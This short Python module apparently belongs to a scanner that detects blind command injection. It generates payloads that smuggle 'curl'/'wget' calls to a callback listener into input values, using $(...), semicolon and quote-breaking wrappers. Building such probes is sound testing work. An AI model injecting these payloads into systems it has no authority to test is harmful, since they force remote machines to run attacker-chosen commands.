"""What makes a server ask for the fleet's own listener (fleet/broker/listener.py). Pure."""

from __future__ import annotations

from random import Random


def heard(chance: Random) -> str:
    """An address of the listener that nobody asked for."""
    return f"{{listener}}/qah{chance.getrandbits(48):012x}"


def asking(chance: Random) -> tuple[str, ...]:
    """Commands to put behind a value that ask for the listener, by what a machine has."""
    told = [f"curl -s {url}||wget -qO- {url}" for url in (heard(chance) for _ in range(4))]
    return (f"$({told[0]})", f";{told[1]};", f"';{told[2]};'", f'";{told[3]};"')
